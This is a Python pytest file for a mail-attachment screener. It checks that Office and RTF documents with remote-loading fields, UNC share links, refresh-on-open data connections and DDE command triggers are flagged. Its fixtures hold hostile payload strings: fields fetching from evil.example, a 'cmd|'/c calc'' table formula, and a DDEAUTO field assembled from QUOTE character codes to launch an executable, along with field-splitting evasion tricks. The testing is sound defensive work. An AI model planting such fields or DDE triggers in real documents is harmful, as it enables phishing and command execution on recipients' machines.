"""Fields and sources of data that load what lies elsewhere; and fields in fields of RTF, which are not read for each anew."""

import pytest
from fakes.evasions.containers import document
from fakes.odd_mail import attached

from screener.anatomy.active import Active
from screener.anatomy.defects import Defect
from screener.anatomy.message import Anatomy

FIELD = '<w:document xmlns:w="x"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r></w:document>'
HEAD = rb"{\rtf1\ansi\ansicpg1252\deff0\deflang1031{\fonttbl{\f0\fnil\fcharset0 Calibri;}}" + b"\r\n"


def acts(octets: bytes, name: str) -> set[Active]:
    return {kind for one in Anatomy(attached(octets, name)).attachments for kind in one.active_content}


@pytest.mark.parametrize(
    ("instruction", "wanted"),
    [
        (' LINK Excel.Sheet.8 "http://evil.example/x.xls" "" \\a ', {Active.LINKED_OBJECT}),
        (' LINK Excel.Sheet.8 "\\\\\\\\evil.example\\\\x.xls" \\a ', {Active.LINKED_OBJECT}),
        (' LINK Excel.Sheet.8 "\\\\\\\\fileserver\\\\x.xls" \\a ', {Active.SHARE}),
        (" link Excel.Sheet.12 http://evil.example/x.xls ", {Active.LINKED_OBJECT}),
        (' INCLUDETEXT "https://evil.example/x.docx" ', {Active.LINKED_OBJECT}),
        (' DATABASE \\d "http://evil.example/x.mdb" \\s "SELECT * FROM a" ', {Active.LINKED_OBJECT}),
        (' DATABASE \\d "C:\\\\x.mdb" \\c "DSN=a;DBQ=C:\\\\x.mdb;" \\s "SELECT * FROM a" ', set()),
        (' RD "http://evil.example/x.docx" \\f ', {Active.LINKED_OBJECT}),
        (' REF "http://evil.example/x.docx" ', set()),
        (' LINK Excel.Sheet.8 "C:\\\\x.xls" \\a ', set()),
        (' INCLUDETEXT "C:\\\\x.docx" ', set()),
        (' HYPERLINK "http://example.net/LINK" ', set()),
        (' INCLUDEPICTURE "http://example.net/x.png" \\d ', set()),
        (' INCLUDEPICTURE "\\\\\\\\evil.example\\\\x.png" \\d ', {Active.SHARE}),
        (' includepicture "file://evil.example/x.png" \\* MERGEFORMAT ', {Active.SHARE}),
        (" IMPORT \\\\\\\\192.0.2.1\\\\s\\\\x.png ", {Active.SHARE}),
        (' INCLUDE "http://evil.example/x.docx" ', {Active.LINKED_OBJECT}),
        (' INCLUDEPICTURE "\\\\\\\\fileserver\\\\logos\\\\x.png" \\d ', set()),
        (' INCLUDEPICTURE "C:\\\\x.y\\\\x.png" \\d ', set()),
        (' IMPORT "http://example.net/x.png" ', set()),
        (' IF "LINK http://example.net" = "" ', set()),
        (' LINK "Excel.Sheet.8" "http://evil.example/x.xls" ', {Active.LINKED_OBJECT}),
        (' "INCLUDETEXT" \\* MERGEFORMAT "http://evil.example/x.docx" ', {Active.LINKED_OBJECT}),
        (' INCLUDEPICTURE \\d "\\\\\\\\evil.example\\\\x.png" ', {Active.SHARE}),
    ],
)
def test_fields_that_load_from_elsewhere(instruction: str, wanted: set[Active]) -> None:
    marked_up = FIELD.format(instruction.replace('"', "&quot;")).encode()
    assert acts(document(("word/footer1.xml", marked_up)), "a.docx") == wanted
    written = instruction.replace("\\", "\\\\").encode()
    assert acts(HEAD + rb"{\field{\*\fldinst {\lang1033" + written + rb"}}{\fldrslt x}}}", "a.rtf") == wanted
    split = written.replace(b"LINK", rb"LI}{\b NK", 1) if b"HYPER" not in written else written
    assert acts(HEAD + rb"{\field{\*\fldinst {\lang1033" + split + rb"}}{\fldrslt x}}}", "a.rtf") == wanted


def fields(*pieces: str) -> bytes:
    """Their codes, and where "[", "|" and "]" stand what begins, parts and ends a field."""
    steps = {"[": "begin", "|": "separate", "]": "end"}
    runs = (f'<w:fldChar w:fldCharType="{steps[one]}"/>' if one in steps else f"<w:instrText>{one}</w:instrText>" for one in pieces)
    return document(("word/footer1.xml", "".join(f"<w:r>{run}</w:r>" for run in runs).encode()))


@pytest.mark.parametrize(
    ("pieces", "wanted"),
    [
        (("[", 'RD "http://evil.example/x" \\\\f', "]"), {Active.LINKED_OBJECT}),
        (("[", 'INCLUDETEXT "http:', "[", "QUOTE //evil.example/x", "|", "]", '" ', "|", "]"), {Active.LINKED_OBJECT}),
        (("[", "LINK ", "[", "QUOTE Excel.Sheet", "]", " http://evil.example/x", "]"), {Active.LINKED_OBJECT}),
        (("[", "INCLUDEPICTURE a ", "[", "LINK Excel.Sheet http://evil.example/x", "]", "]"), {Active.LINKED_OBJECT}),
        (("[", "QUOTE a ", "[", "LINK Excel.Sheet http://evil.example/x", "]", "]"), {Active.LINKED_OBJECT}),
        (("[", "LINK Excel.Sheet C:\\x.xls", "|", "]", "[", "HYPERLINK http://example.net/", "|", "]"), set()),
    ],
)
def test_a_field_may_say_in_another_what_is_loaded(pieces: tuple[str, ...], wanted: set[Active]) -> None:
    assert acts(fields(*pieces), "a.docx") == wanted


CONNECTIONS = '<connections xmlns="x"><connection id="1" {}>{}</connection><connection id="2">{}</connection></connections>'
REFRESHED = 'refreshOnLoad="1"'
QUERY = '<webPr url="http://evil.example/x"/>'


@pytest.mark.parametrize(
    ("given", "source", "other", "wanted"),
    [
        (REFRESHED, QUERY, "", {Active.LINKED_OBJECT}),
        ("refreshOnLoad='true'", QUERY, "", {Active.LINKED_OBJECT}),
        (REFRESHED, '<dbPr connection="Provider=x;Data Source=\\\\evil.example\\x.accdb;Mode=y"/>', "", {Active.LINKED_OBJECT}),
        (REFRESHED, '<textPr sourceFile="https://evil.example/x.csv"/>', "", {Active.LINKED_OBJECT}),
        (f'{REFRESHED} odcFile="https://evil.example/x.odc"', "", "", {Active.LINKED_OBJECT}),
        (REFRESHED, '<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Q1"/>', "", set()),
        (REFRESHED, "", QUERY, set()),
        ('refreshOnLoad="0"', QUERY, "", set()),
        ("", QUERY, "", set()),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_sources_that_are_asked_on_opening(given: str, source: str, other: str, wanted: set[Active], codec: str) -> None:
    markup = CONNECTIONS.format(given, source, other).encode(codec)
    assert acts(document(("xl/connections.xml", markup)), "a.xlsx") == wanted


@pytest.mark.parametrize("name", ["calculatedColumnFormula", "totalsRowFormula"])
def test_formulas_of_a_table_s_columns(name: str) -> None:
    table = f"<table><tableColumn><{name}>cmd|'/c calc'!A0+Sheet1!A1</{name}></tableColumn></table>"
    assert acts(document(("xl/tables/table1.xml", table.encode())), "a.xlsx") == {Active.DDE}


def _run(text: bytes) -> bytes:
    return rb"{\rtlch\fcs1 \af0 \ltrch\fcs0 \insrsid1402541 " + text + b"}"


def _field(code: bytes, result: bytes) -> bytes:
    return rb"{\field\flddirty{\*\fldinst " + code + rb"}{\fldrslt " + _run(result) + b"}}"


_DAY = _field(_run(rb' DATE \\@ "d" '), b"1")
_QUOTE = _field(_run(b" QUOTE ") + _DAY + _run(b".") + _DAY + _run(b" "), b"1.1")
_DDE = _field(_field(_run(b" QUOTE 68 68 69 65 85 84 79 "), b"DDEAUTO") + _run(rb" c:\\x.exe "), b"x")


@pytest.mark.parametrize(
    "unit",
    [
        _DAY,
        _QUOTE,
        _field(_run(b" IF ") + _QUOTE + _run(b' = "1" "x" ') + _field(_run(b" DOCVARIABLE y "), b"b"), b"x"),
        _field(_run(b" DOCPROPERTY ") + _field(_run(b" DOCVARIABLE x "), b"1"), b"b"),
        rb"{\field{\*\fldinst {DOCPROPERTY \u1040\'c0\u1041\'c1\u1042\'c2}}{\fldrslt x}}",
        _field(_field(_run(b" DOCVARIABLE x "), b"1") + _run(b" "), b"2"),
        rb"{\*\template C:\\Users\\x\\Normal.dotm}",
    ],
)
@pytest.mark.parametrize("count", [1, 50, 1_000])
def test_fields_in_fields_as_word_writes_them_pass(unit: bytes, count: int) -> None:
    anatomy = Anatomy(attached(HEAD + unit * count + b"}", "a.rtf"))
    assert anatomy.attachments[0].active_content == ()
    assert not anatomy.all_defects()
    assert acts(HEAD + unit * count + _DDE + b"}", "a.rtf") == {Active.DDE}


@pytest.mark.parametrize(
    "unit",
    [rb"\fldinst\1 ", rb"{\field{\*\fldinst { ", rb"\*\template\1 ", rb"{\fldinst QUOTE 1", rb"\fldinst L\'49\u78?", rb"\fldinst{"],
)
def test_fields_that_would_be_read_for_each_anew_are_said(unit: bytes) -> None:
    anatomy = Anatomy(attached(HEAD + unit * (100_000 // len(unit)), "a.rtf"))
    assert Defect.CONTAINER_DAMAGED in {one.defect for one in anatomy.all_defects()}
